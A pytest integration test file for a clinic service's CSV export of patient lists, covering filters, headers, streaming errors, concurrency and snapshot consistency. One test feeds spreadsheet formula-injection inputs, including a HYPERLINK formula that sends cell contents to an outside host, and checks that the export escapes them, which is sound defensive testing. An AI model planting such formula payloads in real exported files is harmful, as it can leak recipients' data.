"""Lists as CSV files: all that match, safe to open, and never half a file that looks whole."""

import asyncio
import csv
import io
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any

import asyncpg
import httpx
import pytest
import uvicorn
from services.patients.tests.clinic import DAY, HOUR, NOON, Clinic, opened_clinic
from services.patients.tests.integration.conftest import Server
from sqlalchemy import text
from sqlalchemy.engine import make_url

from patients.entrypoints.export import AT_ONCE
from patients.entrypoints.spreadsheet import NESTED
from patients.handlers import EXPORT_PIECE

CSV = {"accept": "text/csv"}
MANY = 2 * EXPORT_PIECE + 1
LISTS = ("patients", "patients/with-appointments", "patients/by-appointment-type/Physio%2Ftherapy")
NewDatabase = Callable[[str], Awaitable[str]]

FULL_AFTER_TWO_PIECES = """
    CREATE SEQUENCE patients.pieces;
    CREATE FUNCTION patients.refuse() RETURNS trigger LANGUAGE plpgsql AS
    $$ BEGIN IF nextval('patients.pieces') > 2 THEN RAISE 'full'; END IF; RETURN NULL; END $$;
    CREATE TRIGGER refuse AFTER INSERT ON patients.outbox FOR EACH STATEMENT EXECUTE FUNCTION patients.refuse();
"""


@pytest.fixture
async def many(clinic: Clinic) -> Clinic:
    """More active patients than a page and a piece hold."""
    await fill(clinic)
    return clinic


async def fill(clinic: Clinic) -> None:
    await clinic.hears(
        clinic.page(clinic.type(7, "Physio/therapy")),
        clinic.page(*(clinic.patient(number) for number in range(1, MANY + 1))),
        clinic.page(
            *(clinic.appointment(n, n, NOON + n % 90 * HOUR, appointment_type_id="7") for n in range(1, MANY + 1))
        ),
    )


def records(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


def cell(value: Any) -> str:
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


@pytest.mark.parametrize("path", LISTS)
async def test_a_file_holds_what_the_whole_list_shows(many: Clinic, path: str) -> None:
    first = await many.get(path, limit=1000)
    rest = await many.get(path, limit=1000, cursor=first["next_cursor"])
    patients = [{k: v for k, v in p.items() if k not in NESTED} for p in (*first["patients"], *rest["patients"])]
    found = records(await many.read(path, CSV))
    assert len(found) == MANY == first["total_count"]
    assert list(found[0]) == list(patients[0])
    assert found == [{key: cell(value) for key, value in patient.items()} for patient in patients]


async def test_a_file_follows_the_filters_and_neither_limit_nor_cursor(many: Clinic) -> None:
    await many.hears(many.page(many.patient(1, first_name="Zoë"), many.patient(9999, first_name="Zoë", last_name="No")))
    cursor = (await many.get("patients", limit=1))["next_cursor"]
    assert len(records(await many.read("patients", CSV, limit=3, cursor=cursor))) == MANY
    assert [row["name"] for row in records(await many.read("patients", CSV, search="zoë"))] == ["Zoë"]
    assert [row["name"] for row in records(await many.read("patients", CSV, active="false"))] == ["Zoë No"]


async def test_what_people_typed_stays_text_in_its_cell(clinic: Clinic) -> None:
    notes = '=HYPERLINK("http://example.com?"&A1)\r\nline, "two"'
    await clinic.hears(
        clinic.page(clinic.patient(1, first_name="@SUM(1)", last_name="Ödön 😀", email="-1+1@example.com")),
        clinic.page(clinic.appointment(1, 1, NOON - DAY, notes=notes)),
    )
    response = await clinic.read("patients", CSV)
    (row,) = records(response)
    assert (row["name"], row["email"]) == ("'@SUM(1) Ödön 😀", "'-1+1@example.com")
    assert row["treatment_notes"] == f"'{notes}"
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    name = f"patients-{clinic.organization_id}-20250630T120000Z.csv"
    assert response.headers["content-disposition"] == f'attachment; filename="{name}"'


async def test_a_file_without_patients_has_its_header(clinic: Clinic) -> None:
    assert (await clinic.read("patients", CSV)).text.startswith("id,name,phone,email,")


@asynccontextmanager
async def served(clinic: Clinic) -> AsyncIterator[httpx.AsyncClient]:
    """The service on a socket, where a client can see that an answer has no end, and can go away."""
    server = uvicorn.Server(uvicorn.Config(clinic.app, port=0, lifespan="off", log_config=None, access_log=False))
    serving = asyncio.create_task(server.serve())
    while not server.started:
        await asyncio.sleep(0.01)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", headers={**clinic.signed(), **CSV}) as client:
            yield client
    finally:
        server.should_exit = True
        await serving


@asynccontextmanager
async def owner(url: str, postgres_url: str) -> AsyncIterator[asyncpg.Connection]:
    database = make_url(postgres_url).set(database=make_url(url).database)
    connection = await asyncpg.connect(database.render_as_string(hide_password=False))
    yield connection
    await connection.close()


@pytest.fixture
async def own_database(new_database: NewDatabase) -> AsyncIterator[tuple[Clinic, str]]:
    url = await new_database("patients")
    async with opened_clinic(url) as clinic:
        yield clinic, url


async def test_an_error_in_the_middle_leaves_no_file_that_looks_whole(
    own_database: tuple[Clinic, str], postgres: Server
) -> None:
    clinic, url = own_database
    await fill(clinic)
    async with owner(url, postgres.url) as connection:
        await connection.execute(FULL_AFTER_TWO_PIECES)
    async with served(clinic) as client:
        async with client.stream("GET", f"/api/v1/patients/{clinic.organization_id}/patients") as response:
            assert response.status_code == 200
            with pytest.raises(httpx.RemoteProtocolError, match="incomplete"):
                await response.aread()


async def test_what_cannot_be_put_on_record_is_not_sent(own_database: tuple[Clinic, str], postgres: Server) -> None:
    clinic, url = own_database
    await clinic.hears(clinic.page(clinic.patient(1, first_name="Canary")))
    async with owner(url, postgres.url) as connection:
        await connection.execute("REVOKE INSERT ON patients.outbox FROM routiq_patients")
    for headers in ({}, CSV):
        refused = await clinic.read("patients", headers, active="all")
        assert (refused.status_code, refused.headers["content-type"]) == (500, "application/json")
        assert "Canary" not in refused.text


async def test_who_goes_away_leaves_nothing_running(many: Clinic) -> None:
    async with served(many) as client:
        for _ in range(2 * AT_ONCE):
            path = f"/api/v1/patients/{many.organization_id}/patients"
            async with client.stream("GET", path) as response:
                assert response.status_code == 200, await response.aread()
                await anext(response.aiter_raw())
    async with asyncio.timeout(20):
        while await sessions(many):
            await asyncio.sleep(0.05)


async def sessions(clinic: Clinic) -> int:
    """Transactions that stay open in this clinic's database."""
    idle = "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in%'"
    async with clinic.database.transaction() as connection:
        return int(await connection.scalar(text(idle)) or 0)


async def test_more_exports_at_once_than_the_database_bears_are_asked_to_come_again(many: Clinic) -> None:
    answers = await asyncio.gather(*(many.read("patients", CSV) for _ in range(AT_ONCE + 2)))
    assert sorted(answer.status_code for answer in answers) == [200] * AT_ONCE + [503] * 2
    assert (await many.read("patients", CSV)).status_code == 200


async def test_a_file_shows_one_moment_though_patients_change_while_it_is_made(many: Clinic) -> None:
    before = [row["cliniko_patient_id"] for row in records(await many.read("patients", CSV))]

    async def change() -> None:
        for number in range(1, MANY, 40):
            moved = many.appointment(number, number, NOON + 200 * HOUR, appointment_type_id="7")
            await many.hears(many.page(moved), many.removed(patient=number + 1))
            await many.listed(limit=1)

    changing = asyncio.create_task(change())
    files = [records(await many.read("patients", CSV)) for _ in range(3)]
    await changing
    for rows in files:
        ids = [row["cliniko_patient_id"] for row in rows]
        assert len(ids) == len(set(ids))
        assert set(ids) <= set(before)
        order = [(row["next_appointment_time"] or "9", row["name"]) for row in rows]
        assert [time for time, _ in order] == sorted(time for time, _ in order)
